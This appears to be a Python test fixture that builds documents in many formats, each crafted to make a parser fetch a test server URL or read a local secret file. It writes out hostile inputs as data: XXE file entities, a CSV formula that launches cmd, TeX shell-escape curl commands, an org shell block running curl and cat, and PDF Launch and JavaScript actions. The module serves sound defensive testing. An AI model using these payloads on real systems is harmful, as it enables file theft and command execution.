"""Documents of every format that ask a program to fetch something, and where each asks it.

``url`` is of a server that the test runs, ``file`` of a secret on this machine.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from tests.documents.document_parts import (
    OFFICE,
    PACKAGE,
    docx,
    epub,
    open_document,
    package,
    pdf_page,
    pdf_stream,
    word_body,
    xlsx,
)
from tests.fuzzing.seeds import seed_paths

_SEED_LINK = b"https://archive.example/"
_WIDE_LINK = _SEED_LINK.decode().encode("utf-16-le")


def remote_documents(url: str, file: Path) -> dict[str, bytes]:
    """Contents by name. ``url`` ends in a slash."""
    made = {
        "page.html": _page(url),
        "page.xhtml": b'<?xml version="1.0"?>' + _entities(url, file) + _page(url),
        "old page.xls": _page(url),
        "page.md": _markdown(url),
        "data.xml": _xml(url, file),
        "drawing.xml": _drawing(url, file),
        "data.json": f'{{"$schema": "{url}s", "$ref": "{url}r", "a": "{file.as_uri()}"}}'.encode(),
        "table.csv": f'=WEBSERVICE("{url}"),=HYPERLINK("{url}"),=cmd|\'/c calc\'!A1\n'.encode(),
        "text.tex": _tex(url, file),
        "notes.org": f'#+SETUPFILE: {url}s\n#+INCLUDE: "{file}"\n[[{url}l]] [[file:{file}]]\n'
        f"#+begin_src shell\ncurl {url}c; cat {file}\n#+end_src\nword\n".encode(),
        "film.vtt": f"WEBVTT\n\nSTYLE\n@import url({url});\n\n00:01.000 --> 00:02.000\n"
        f"<img src={url}>word\n".encode(),
        "film.srt": f"1\n00:00:01,000 --> 00:00:02,000\n<img src={url}>word\n".encode(),
        "letter.eml": _mail(url, file),
        "page.mhtml": b'Content-Type: multipart/related; boundary="b"\n\n--b\n'
        b"Content-Type: text/html\n\n" + _page(url) + b"\n--b--\n",
        "letter.docx": _docx(url, file),
        "entities.docx": docx(_entities(url, file).decode() + word_body("<w:p>&a;&b;</w:p>")),
        "sheet.xlsx": _xlsx(url),
        "letter.odt": _odt(url, file),
        "book.epub": epub(["a.xhtml", f"{url}b"], [("a.xhtml", _page(url).decode())]),
        "letter.pdf": _pdf(url, file),
        "letter.rtf": _rtf(url, file),
    }
    return made | _seeds_with_links(url)


def _page(url: str) -> bytes:
    return f"""<html><head><base href="{url}"><meta http-equiv="refresh" content="0;url={url}r">
<link rel="stylesheet" href="{url}c"><link rel="prefetch" href="{url}p">
<script src="{url}s"></script>
<style>@import url("{url}i"); body {{ background: url({url}g) }}</style></head>
<body background="{url}b" onload="fetch('{url}f')"><p>word</p>
<img src="{url}a" srcset="{url}z 2x">
<iframe src="{url}j"></iframe><object data="{url}o"></object><embed src="{url}e">
<video src="{url}v" poster="{url}w"></video><audio src="{url}u"></audio>
<form action="{url}k"></form>
<svg><image href="{url}l"/><use xlink:href="{url}m#x"/></svg><frame src="{url}n"></body></html>
""".encode()


def _entities(url: str, file: Path) -> bytes:
    return (
        f'<!DOCTYPE a PUBLIC "-//X//Y" "{url}dtd" [<!ENTITY a SYSTEM "{url}a">'
        f'<!ENTITY b SYSTEM "{file.as_uri()}"><!ENTITY % c SYSTEM "{url}c"> %c;]>'
    ).encode()


def _xml(url: str, file: Path) -> bytes:
    return (
        b'<?xml version="1.0"?><?xml-stylesheet href="%bx" type="text/xsl"?>' % url.encode()
        + _entities(url, file)
        + f'<a xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="urn:a {url}s">word &a; &b;<xi:include href="{url}i"/>'
        f'<xi:include href="{file.as_uri()}" parse="text"/></a>'.encode()
    )


def _drawing(url: str, file: Path) -> bytes:
    return (
        _entities(url, file)
        + (
            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}i"/>'
            "<text>word &b;</text></svg>"
        ).encode()
    )


def _markdown(url: str) -> bytes:
    links = f"![a]({url}a) [b]({url}b) <{url}c>\n\n<img src='{url}d'>\n\n[e]: {url}e\n"
    return f"# Word\n\n{links}".encode()


def _tex(url: str, file: Path) -> bytes:
    return (
        r"\documentclass{article}\usepackage{graphicx}\begin{document} Word."
        rf"\input{{{file}}}\include{{{file.with_suffix('')}}}\verbatiminput{{{file}}}"
        rf'\input{{|"curl {url}"}}\includegraphics{{{url}a}}\href{{{url}b}}{{link}}'
        rf"\immediate\write18{{curl {url}c}}\openin1={file} \end{{document}}"
    ).encode()


def _mail(url: str, file: Path) -> bytes:
    return (
        'From: a@b\nSubject: word\nContent-Type: multipart/mixed; boundary="b"\n\n--b\n'
        f'Content-Type: message/external-body; access-type=URL; URL="{url}x"\n\n'
        "Content-Type: text/plain\n\n--b\n"
        f'Content-Type: message/external-body; access-type=local-file; name="{file}"\n\n'
        "Content-Type: text/plain\n\n--b\n"
        f"Content-Type: text/html\nContent-Location: {url}l\n\n{_page(url).decode()}\n--b--\n"
    ).encode()


def _docx(url: str, file: Path) -> bytes:
    kinds = (
        "image",
        "attachedTemplate",
        "hyperlink",
        "oleObject",
        "frame",
        "subDocument",
        "footnotes",
    )
    relations = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{kind}" Target="{url}{kind}"{mode}/>'
        for n, (kind, mode) in enumerate(
            (kind, mode) for kind in kinds for mode in ("", ' TargetMode="External"')
        )
    )
    relations += f'<Relationship Id="f" Type="{OFFICE}/header" Target="{file.as_uri()}"/>'
    shown = "".join(f'<w:subDoc r:id="r{n}"/><w:altChunk r:id="r{n}"/>' for n in range(14))
    instruction = f'w:instr="INCLUDETEXT &quot;{url}t&quot;"'
    field = f"<w:fldSimple {instruction}><w:r><w:t>word</w:t></w:r></w:fldSimple>"
    body = word_body(f"<w:p>{field}</w:p>{shown}")
    return docx(body, relations=f'<Relationships xmlns="{PACKAGE}">{relations}</Relationships>')


def _xlsx(url: str) -> bytes:
    cell = f'<c r="A1" t="str"><f>WEBSERVICE("{url}")</f><v>word</v></c>'
    linked = f'<c r="A2" t="str"><f>\'{url}[a.xlsx]S\'!A1</f><v>more</v></c>'
    return xlsx(f'<row r="1">{cell}</row><row r="2">{linked}</row>')


def _odt(url: str, file: Path) -> bytes:
    link = 'xlink:type="simple" xlink:actuate="onLoad" xlink:href='
    return open_document(
        "text",
        f'<text:section><text:section-source {link}"{url}s"/></text:section>'
        f'<text:section><text:section-source {link}"{file.as_uri()}"/></text:section>'
        f'<text:p>word<text:a {link}"{url}a">link</text:a></text:p>',
    )


def _rtf(url: str, file: Path) -> bytes:
    return (
        rf"{{\rtf1{{\*\template {url}t}}"
        rf"{{\field{{\*\fldinst INCLUDEPICTURE {url}p \\d}}{{\fldrslt word}}}}"
        rf"{{\field{{\*\fldinst INCLUDETEXT {file}}}{{\fldrslt }}}}"
        rf"{{\object\objautlink\objupdate {url}o}}}}"
    ).encode()


def _pdf(url: str, file: Path) -> bytes:
    link = url.encode()
    page = pdf_page(
        pdf_stream(b"BT /F 9 Tf (word) Tj ET"),
        resources=b"/XObject << /X 6 0 R >>",
        more=[
            pdf_stream(b"", b"/Type /XObject /Subtype /Image /F << /FS /URL /F (%bx) >>" % link),
            b"<< /S /URI /URI (%bu) >>" % link,
            b"<< /S /JavaScript /JS (app.launchURL\\('%bj'\\)) >>" % link,
            b"<< /S /SubmitForm /F << /FS /URL /F (%bf) >> >>" % link,
            b"<< /S /GoToR /F (%b) /D [0 /Fit] >>" % str(file).encode(),
            b"<< /S /Launch /F (%b) >>" % str(file).encode(),
        ],
    )
    actions = (
        b"/OpenAction 7 0 R /AA << /WC 8 0 R /WS 9 0 R /DS 10 0 R /WP 11 0 R >> /Type /Catalog"
    )
    return page.replace(b"/Type /Catalog", actions, 1)


def _seeds_with_links(url: str) -> dict[str, bytes]:
    """Files of real programs whose links lead to the server instead, at the same length."""
    return {
        f"seed {path.name}": _with_links(path.read_bytes(), url)
        for path in seed_paths()
        if not path.name.startswith("locked")
    }


def _with_links(data: bytes, url: str) -> bytes:
    if data.startswith(b"PK\x03\x04"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            parts = [(name, archive.read(name)) for name in archive.namelist()]
        return package((name, _with_links(content, url)) for name, content in parts)
    short = url.rstrip("/").ljust(len(_SEED_LINK), "/")[: len(_SEED_LINK)]
    return data.replace(_SEED_LINK, short.encode()).replace(_WIDE_LINK, short.encode("utf-16-le"))
